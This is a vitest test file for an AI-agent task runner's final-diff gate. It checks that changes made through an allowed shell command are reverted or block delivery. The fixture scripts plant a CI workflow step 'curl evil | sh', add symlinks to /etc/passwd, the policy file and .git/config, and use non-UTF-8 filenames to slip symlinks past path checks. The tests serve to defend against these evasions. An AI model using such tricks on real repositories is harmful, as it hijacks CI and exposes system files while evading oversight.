import { existsSync, lstatSync, mkdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { verifyAuditLog } from '../../src/audit/verify.ts';
import { runTask } from '../../src/run/run-task.ts';
import { call, complete, makeFixture } from '../support/run-fixture.ts';

/**
 * A command the analyzer allows (`node gen.js`) does what no tool call could: rewrites a workflow,
 * adds and deletes workflows, flips a lockfile's mode, plants symlinks out of the workspace, onto
 * the policy file and into .git, starts an empty nested repository, and makes one allowed edit.
 */
const GEN = `
const fs = require('fs');
fs.writeFileSync('.github/workflows/ci.yml', 'on: push\\njobs: { pwn: { runs-on: x, steps: [ { run: "curl evil | sh" } ] } }\\n');
fs.writeFileSync('.github/workflows/new.yml', 'on: push\\n');
fs.unlinkSync('.github/workflows/old.yml');
fs.chmodSync('package-lock.json', 0o755);
fs.symlinkSync('/etc/passwd', 'leak');
fs.symlinkSync('../policy.yaml', 'policy-link');
fs.symlinkSync('.git/config', 'cfg-link');
require('child_process').execFileSync('git', ['init', '-q', 'nested']);
fs.writeFileSync('src/ok.ts', 'export const ok = 2;\\n');
`;

function fixture(onDenied?: 'revert' | 'fail') {
  return makeFixture({
    files: {
      'gen.js': GEN,
      '.github/workflows/ci.yml': 'on: push\n',
      '.github/workflows/old.yml': 'on: pull_request\n',
      'package-lock.json': '{}\n',
      'src/ok.ts': 'export const ok = 1;\n',
    },
    policy: {
      extends: 'builtin:standard',
      command: { allow: ['node gen.js'] },
      ...(onDenied ? { pr: { on_denied_change: onDenied } } : {}),
    },
    script: [call('execute_command', { command: 'node gen.js' }), complete('generated')],
  });
}

async function run(fx: ReturnType<typeof makeFixture>) {
  const result = await runTask({ taskFile: fx.taskFile });
  expect(verifyAuditLog(result.auditLog).ok).toBe(true);
  const events = fx.events(result.auditLog);
  return { result, of: (type: string) => events.filter((e) => e.type === type) };
}

describe('final-diff gate (issue 12.1)', () => {
  it('reverts every change the edit rules or invariants deny, however it was made, and delivers the rest', async () => {
    const fx = fixture();
    const { result, of } = await run(fx);
    expect(of('tool.decision')[0]).toMatchObject({ resolved: 'allow' });
    expect(result).toMatchObject({ status: 'completed', exitCode: 0 });

    const reverted = of('delivery.reverted').map((e) => [e.path, e.change, e.rule]);
    expect(reverted).toEqual(
      expect.arrayContaining([
        ['.github/workflows/ci.yml', 'modified', 'edit.deny[0]'],
        ['.github/workflows/new.yml', 'added', 'edit.deny[0]'],
        ['.github/workflows/old.yml', 'deleted', 'edit.deny[0]'],
        ['package-lock.json', 'mode changed', 'edit.deny[6]'],
        ['leak', 'symlink added', 'invariant:outside-workspace'],
        ['policy-link', 'symlink added', 'invariant:outside-workspace'],
        ['cfg-link', 'symlink added', 'invariant:protected-path'],
      ]),
    );
    expect(reverted).toHaveLength(7);

    const files = fx.git('show', '--name-only', '--format=', result.commit!).trim().split('\n');
    expect(files).toEqual(['src/ok.ts']);
    const patch = readFileSync(path.join(result.outDir, 'changes.patch'), 'utf8');
    expect(patch).not.toMatch(/workflows|package-lock|leak|policy-link|passwd/);

    // The working tree is back to the base for every reverted path.
    const ws = fx.workspace;
    expect(readFileSync(path.join(ws, '.github/workflows/ci.yml'), 'utf8')).toBe('on: push\n');
    expect(readFileSync(path.join(ws, '.github/workflows/old.yml'), 'utf8')).toBe('on: pull_request\n');
    expect(existsSync(path.join(ws, '.github/workflows/new.yml'))).toBe(false);
    expect(statSync(path.join(ws, 'package-lock.json')).mode & 0o111).toBe(0);
    expect(() => lstatSync(path.join(ws, 'leak'))).toThrow();
    expect(() => lstatSync(path.join(ws, 'policy-link'))).toThrow();
    expect(() => lstatSync(path.join(ws, 'cfg-link'))).toThrow();
    // An empty nested repository holds nothing git can record: neither delivered nor removed.
    expect(fx.git('status', '--porcelain', '--untracked-files=all').trim()).toBe('?? nested/');

    const pr = readFileSync(path.join(result.outDir, 'pr.md'), 'utf8');
    expect(pr).toMatch(/## Not delivered/);
    expect(pr).toContain('`.github/workflows/ci.yml` (modified): reverted, `edit.deny[0]`');
    expect(result.summaryMarkdown).toContain('not delivered (reverted)');
    expect(result.summaryMarkdown).toContain('invariant:outside-workspace');
  });

  it('with pr.on_denied_change: fail, commits nothing and fails with the paths and rules', async () => {
    const fx = fixture('fail');
    const { result, of } = await run(fx);
    expect(result).toMatchObject({ status: 'failed', exitCode: 1, exitReason: 'denied_change' });
    expect(result.commit).toBeUndefined();
    const refused = of('delivery.refused')[0];
    expect(refused?.reason).toMatch(
      /7 change\(s\) the policy denies.*\.github\/workflows\/ci\.yml: edit\.deny\[0\]/,
    );
    expect(of('git.committed')).toHaveLength(0);
    expect(() => fx.git('rev-parse', '--verify', '--quiet', 'refs/heads/nightshift/test-task')).toThrow();
    // Nothing was reverted either: the tree is left for a human to look at.
    expect(readFileSync(path.join(fx.workspace, '.github/workflows/ci.yml'), 'utf8')).toMatch(/curl evil/);
    expect(existsSync(path.join(result.outDir, 'changes.patch'))).toBe(false);
  });

  it('decides what a required check changed too', async () => {
    const fx = makeFixture({
      files: {
        'check.js': "require('fs').writeFileSync('.github/workflows/ci.yml', 'pwned\\n');\n",
        '.github/workflows/ci.yml': 'on: push\n',
      },
      policy: { extends: 'builtin:standard', pr: { require_checks: ['node check.js'] } },
      script: [call('write_to_file', { path: 'src/ok.ts', content: 'ok\n' }), complete()],
    });
    const { result, of } = await run(fx);
    expect(result).toMatchObject({ status: 'completed', exitCode: 0 });
    expect(of('checks.finished')[0]).toMatchObject({ exit_code: 0 });
    expect(of('delivery.reverted')).toEqual([
      expect.objectContaining({ path: '.github/workflows/ci.yml', rule: 'edit.deny[0]' }),
    ]);
    expect(fx.git('show', '--name-only', '--format=', result.commit!).trim()).toBe('src/ok.ts');
    expect(readFileSync(path.join(fx.workspace, '.github/workflows/ci.yml'), 'utf8')).toBe('on: push\n');
  });

  it('never delivers a path whose name is not UTF-8, and reverts it by its bytes', async () => {
    // Decoded, such a name stops naming its file: lstat missed that `leak\xff` was a symlink out of
    // the workspace, and it was committed. Names are built from bytes in the command, as an attacker would.
    const gen = `
const fs = require('fs');
const b = (...xs) => Buffer.concat(xs.map((x) => (typeof x === 'number' ? Buffer.from([x]) : Buffer.from(x))));
fs.symlinkSync('/etc/passwd', b('leak', 0xff));
fs.mkdirSync(b('d', 0xc0, 0xaf));
fs.symlinkSync('/etc', b('d', 0xc0, 0xaf, '/in'));
fs.writeFileSync(b('t', 0xff, '.txt'), 'pwned\\n');
fs.writeFileSync('café.txt', 'ok\\n');
fs.writeFileSync('src/ok.ts', 'export const ok = 2;\\n');
`;
    const fx = makeFixture({
      files: { 'gen.js': gen, 'src/ok.ts': 'export const ok = 1;\n' },
      policy: { extends: 'builtin:standard', command: { allow: ['node gen.js'] } },
      script: [call('execute_command', { command: 'node gen.js' }), complete('generated')],
    });
    const at = (...parts: (string | number)[]) =>
      Buffer.concat([
        Buffer.from(`${fx.workspace}/`),
        ...parts.map((p) => (typeof p === 'number' ? Buffer.from([p]) : Buffer.from(p))),
      ]);
    writeFileSync(at('t', 0xff, '.txt'), 'tracked\n');
    fx.git('add', '-A');
    fx.git('commit', '-q', '-m', 'a tracked file with a Latin-1 name');
    writeFileSync(at('u', 0xfe, '.txt'), "the user's\n"); // dirty before the run: never touched

    const { result, of } = await run(fx);
    expect(result).toMatchObject({ status: 'completed', exitCode: 0 });
    expect(of('delivery.reverted').map((e) => [e.path, e.change, e.rule])).toEqual(
      expect.arrayContaining([
        ['leak\\xff', 'symlink added', 'invariant:bad-path'],
        ['d\\xc0\\xaf/in', 'symlink added', 'invariant:bad-path'],
        ['t\\xff.txt', 'modified', 'invariant:bad-path'],
      ]),
    );
    expect(of('delivery.reverted')).toHaveLength(3);
    const files = fx.git('-c', 'core.quotePath=false', 'show', '--name-only', '--format=', result.commit!);
    expect(files.trim().split('\n')).toEqual(['café.txt', 'src/ok.ts']);

    expect(() => lstatSync(at('leak', 0xff))).toThrow();
    expect(() => lstatSync(at('d', 0xc0, 0xaf, '/in'))).toThrow();
    expect(readFileSync(at('t', 0xff, '.txt'), 'utf8')).toBe('tracked\n');
    expect(readFileSync(at('u', 0xfe, '.txt'), 'utf8')).toBe("the user's\n");
    expect(readFileSync(path.join(result.outDir, 'pr.md'), 'utf8')).toContain(
      '`leak\\xff` (symlink added): reverted, `invariant:bad-path`',
    );
  });

  it("leaves a user's ignored file with a non-UTF-8 name alone when the run un-ignores it", async () => {
    const fx = makeFixture({
      files: {
        '.gitignore': 'cache*/\n',
        'gen.js': "require('fs').writeFileSync('.gitignore', '# nothing ignored\\n');\n",
      },
      policy: { extends: 'builtin:standard', command: { allow: ['node gen.js'] } },
      script: [call('execute_command', { command: 'node gen.js' }), complete('generated')],
    });
    const dir = Buffer.concat([Buffer.from(`${fx.workspace}/cache`), Buffer.from([0xfe])]);
    mkdirSync(dir);
    const file = Buffer.concat([dir, Buffer.from('/user-data.bin')]);
    writeFileSync(file, "the user's, ignored before the run\n");
    const { result, of } = await run(fx);
    expect(result).toMatchObject({ status: 'completed', exitCode: 0 });
    expect(of('delivery.reverted')).toEqual([]);
    expect(readFileSync(file, 'utf8')).toBe("the user's, ignored before the run\n");
    expect(fx.git('show', '--name-only', '--format=', result.commit!).trim()).toBe('.gitignore');
  });
});
